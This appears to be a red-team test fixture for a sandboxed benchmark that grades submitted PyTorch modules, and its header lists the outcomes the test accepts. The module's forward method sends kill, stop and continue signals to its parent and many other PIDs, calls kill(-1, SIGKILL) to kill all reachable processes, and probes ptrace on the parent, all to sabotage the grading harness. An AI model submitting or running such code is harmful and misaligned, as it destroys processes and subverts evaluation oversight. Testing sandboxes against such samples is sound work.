"""redteam
trick = "signals to its parent, its group and every number"
entries = ["F6"]
accept = ["correct", "crashed", "resource_exceeded"]
"""
import ctypes
import os
import signal

import torch

libc = ctypes.CDLL(None)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        for pid in [os.getppid(), 2, 3, *range(100, 4000, 7)]:
            if pid not in (0, os.getpid()):
                for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGCONT):
                    try:
                        os.kill(pid, number)
                    except OSError:
                        pass
        libc.kill(-1, signal.SIGKILL)
        assert libc.ptrace(16, os.getppid(), 0, 0) == -1
        return torch.softmax(x, 1)
